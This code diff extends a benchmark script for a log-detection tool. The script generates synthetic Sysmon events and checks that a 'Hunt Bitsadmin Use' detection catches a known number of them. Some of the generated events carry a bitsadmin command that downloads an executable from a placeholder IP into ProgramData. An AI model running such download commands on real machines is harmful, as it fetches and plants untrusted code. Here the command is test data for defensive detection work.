@@ -1,11 +1,13 @@
 /**
  * Events a second through the lab, one thread: JSON lines and XML, with 20 and with 100 detections. The answers are known,
- * since the events are made here: a run that finds one row more or less fails.
+ * since the events are made here: a run that finds one row more or less fails. Last, all that this app ships, by the program
+ * itself (build it first), over the same events.
  *
  *   node bench/lab.js [events]
  */
 import { mkdtempSync, rmSync, openSync, writeSync, closeSync, statSync } from 'node:fs';
 import { createHash } from 'node:crypto';
+import { spawnSync } from 'node:child_process';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
@@ -15,6 +17,8 @@ const events = Number(process.argv[2] ?? 300_000);
 const RUNS = 5;
 /** One event in so many is what a detection looks for. */
 const HIT_EVERY = 1_000;
+/** One in so many is a transfer by bitsadmin. */
+const TRANSFER_EVERY = 50_000;
 
 const folder = mkdtempSync(join(tmpdir(), 'bitsjobs-bench-'));
 process.on('exit', () => rmSync(folder, { recursive: true, force: true }));
@@ -28,7 +32,8 @@ const programs = ['svchost.exe', 'chrome.exe', 'teams.exe', 'explorer.exe', 'tas
 /** A Sysmon process creation of realistic size; `n` is spread over what varies. */
 function event(n) {
   const hit = n % HIT_EVERY === 0;
-  const program = hit ? 'tool7.exe' : programs[n % programs.length];
+  const transfers = n % TRANSFER_EVERY === 1;
+  const program = transfers ? 'bitsadmin.exe' : hit ? 'tool7.exe' : programs[n % programs.length];
   const second = n % 86_400;
   const time = `2026-03-02T${String(Math.floor(second / 3600)).padStart(2, '0')}:${String(Math.floor(second / 60) % 60).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}.123Z`;
   const hash = createHash('sha256').update(String(n)).digest('hex').toUpperCase();
@@ -37,7 +42,7 @@ function event(n) {
     EventData: {
       RuleName: '-', UtcTime: time.replace('T', ' ').replace('Z', ''), ProcessGuid: `{5d1f0c3a-${hash.slice(0, 4)}-${hash.slice(4, 8)}-0100-${hash.slice(8, 20)}}`, ProcessId: String(n % 60_000), Image: `C:\\Program Files\\Vendor ${n % 40}\\App\\${program}`, FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
       Description: 'A program of an invented vendor', Product: 'Invented Product Suite', Company: 'Invented Corporation', OriginalFileName: program,
-      CommandLine: hit ? `"C:\\Program Files\\Vendor\\App\\${program}" --fetch word7 --job ${n}` : `"C:\\Program Files\\Vendor ${n % 40}\\App\\${program}" --type=renderer --enable-features=one,two,three --field-trial-handle=${n},i,${n % 97},262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${n % 1000}`,
+      CommandLine: transfers ? `bitsadmin  /transfer job${n} https://198.51.100.7/a.exe C:\\ProgramData\\a.exe` : hit ? `"C:\\Program Files\\Vendor\\App\\${program}" --fetch word7 --job ${n}` : `"C:\\Program Files\\Vendor ${n % 40}\\App\\${program}" --type=renderer --enable-features=one,two,three --field-trial-handle=${n},i,${n % 97},262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${n % 1000}`,
       CurrentDirectory: 'C:\\Windows\\system32\\', User: `CORP\\user${n % 700}`, LogonGuid: '{5d1f0c3a-0000-0000-e703-000000000000}', LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium',
       Hashes: `SHA256=${hash}`, ParentProcessGuid: `{5d1f0c3a-${hash.slice(20, 24)}-${hash.slice(24, 28)}-0100-${hash.slice(28, 40)}}`, ParentProcessId: '4', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ParentUser: `CORP\\user${n % 700}`,
     },
@@ -96,4 +101,19 @@ for (const [name, file] of Object.entries(files)) {
     const show = (rate) => Math.round(rate).toLocaleString('en-US').padStart(9);
     console.log(`${name.padEnd(6)} ${String(count).padStart(11)}  ${(everything ? 'every one' : 'that matter').padEnd(12)} ${show(rates[0])} / ${show(rates[rates.length >> 1])} / ${show(rates.at(-1))}`);
   }
+}
+
+/** As a user runs it, reading of content and start of Node left out. */
+function shipped(file) {
+  const { stdout, stderr } = spawnSync(process.execPath, [join(import.meta.dirname, '../dist/cli.js'), 'run', '--events', file, '--format', 'json'], { encoding: 'utf8', cwd: join(import.meta.dirname, '..'), maxBuffer: 2 ** 30 });
+  const [, read, seconds, matter] = /^(\d+) events read in ([\d.]+) s, \d+ a second; (\d+) /m.exec(stderr) ?? [];
+  const hunted = stdout.split('\n').filter((line) => line.includes('"detection":"Hunt Bitsadmin Use"')).length;
+  if (Number(read) !== events || hunted !== Math.ceil((events - 1) / TRANSFER_EVERY)) throw new Error(`wrong answer: ${read} records, ${hunted} transfers\n${stderr.slice(0, 500)}`);
+  return { rate: events / Number(seconds), matter, searches: stderr.split('\n').filter((line) => line.includes(' results, ')).length };
+}
+
+for (const [name, file] of Object.entries(files)) {
+  const runs = Array.from({ length: RUNS }, () => shipped(file)).sort((a, b) => a.rate - b.rate);
+  const show = (run) => Math.round(run.rate).toLocaleString('en-US').padStart(9);
+  console.log(`${name.padEnd(6)} ${String(runs[0].searches).padStart(11)}  that ship    ${show(runs[0])} / ${show(runs[runs.length >> 1])} / ${show(runs.at(-1))}; ${runs[0].matter} records matter`);
 }
